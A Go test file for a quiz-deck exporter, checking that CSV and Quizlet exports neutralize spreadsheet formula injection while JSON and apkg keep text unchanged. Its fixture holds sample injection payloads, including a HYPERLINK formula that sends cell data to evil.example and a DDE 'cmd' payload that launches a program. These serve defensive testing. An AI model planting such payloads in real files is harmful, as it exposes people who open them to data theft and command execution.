package export

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"factdeck/quiz"
)

// formulaDeck is a deck whose text would run as spreadsheet formulas.
func formulaDeck() quiz.Deck {
	d := testDeck()
	q := &d.Questions[2]
	q.Prompt = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
	q.Answer = "+1+2"
	q.Accepted = []string{"+1+2", "-3", "@SUM(A1)"}
	q.Sentence = "\t=cmd|' /C calc'!A0"
	q.Cloze = "\r=1"
	return d
}

func TestNeutralize(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"equals", "=1+1", "'=1+1"},
		{"plus", "+1", "'+1"},
		{"minus", "-1", "'-1"},
		{"at", "@SUM(A1)", "'@SUM(A1)"},
		{"tab", "\t=1", "'\t=1"},
		{"carriage return", "\r=1", "'\r=1"},
		{"plain", "Oslo", "Oslo"},
		{"formula later", "Oslo = 1", "Oslo = 1"},
		{"empty", "", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := neutralize(tt.in); got != tt.want {
				t.Errorf("neutralize(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestCSVNeutralizesFormulas(t *testing.T) {
	d := formulaDeck()
	rows, err := csv.NewReader(bytes.NewReader(write(t, CSV, d))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("CSV cell %q starts a formula", cell)
			}
		}
	}
	row := rows[3]
	col := map[string]int{}
	for i, name := range rows[0] {
		col[name] = i
	}
	q := d.Questions[2]
	for name, want := range map[string]string{"prompt": "'" + q.Prompt, "answer": "'+1+2", "sentence": "'" + q.Sentence, "cloze": "'" + q.Cloze} {
		if got := row[col[name]]; got != want {
			t.Errorf("CSV %s = %q, want %q", name, got, want)
		}
	}
}

func TestQuizletNeutralizesFormulas(t *testing.T) {
	d := formulaDeck()
	cards := readQuizlet(t, write(t, Quizlet, d))
	if got, want := cards[2][0], "'"+d.Questions[2].Prompt; got != want {
		t.Errorf("Quizlet term = %q, want %q", got, want)
	}
	if got, want := cards[2][1], "'+1+2"; got != want {
		t.Errorf("Quizlet definition = %q, want %q", got, want)
	}
}

// TestExactFormatsKeepFormulaText checks that JSON and apkg, which no
// spreadsheet opens, keep the text exactly.
func TestExactFormatsKeepFormulaText(t *testing.T) {
	d := formulaDeck()
	got, err := ReadJSON(bytes.NewReader(write(t, JSON, d)))
	if err != nil {
		t.Fatal(err)
	}
	if q := got.Questions[2]; q.Prompt != d.Questions[2].Prompt || q.Answer != "+1+2" || q.Sentence != d.Questions[2].Sentence {
		t.Errorf("JSON question = %+v, want the text unchanged", q)
	}
	db := openAPKG(t, write(t, APKG, d))
	flds := queryStrings(t, db, "SELECT flds FROM notes")
	found := false
	for _, f := range flds {
		if strings.Contains(f, "+1+2") && !strings.Contains(f, "'+1+2") {
			found = true
		}
	}
	if !found {
		t.Errorf("apkg notes %q lack the answer +1+2 unchanged", flds)
	}
}

// TestGIFTPegjsChoices checks that choices that look like GIFT weights,
// formats or matching pairs are read back as text.
func TestGIFTPegjsChoices(t *testing.T) {
	dir := toolDir(t, "FACTDECK_GIFT_DIR", "node_modules/gift-pegjs/package.json")
	d := testDeck()
	opts := []string{"%50%half", "[markdown]*x*", "a -> b", "Jane Roe"}
	d.Questions[6].Options = opts
	path := filepath.Join(t.TempDir(), "deck.gift")
	if err := os.WriteFile(path, write(t, GIFT, d), 0o600); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command("node", "testdata/gift_parse.js", path)
	cmd.Env = append(os.Environ(), "NODE_PATH="+filepath.Join(dir, "node_modules"))
	var got giftResult
	if err := json.Unmarshal(run(t, cmd), &got); err != nil {
		t.Fatal(err)
	}
	mc := got.Items[6]
	if len(mc.Choices) != len(opts) {
		t.Fatalf("choices = %+v, want %d", mc.Choices, len(opts))
	}
	for i, o := range opts {
		if want := giftHTMLEscaper.Replace(o); mc.Choices[i].Text != want {
			t.Errorf("choice %d = %q, want %q", i, mc.Choices[i].Text, want)
		}
	}
}
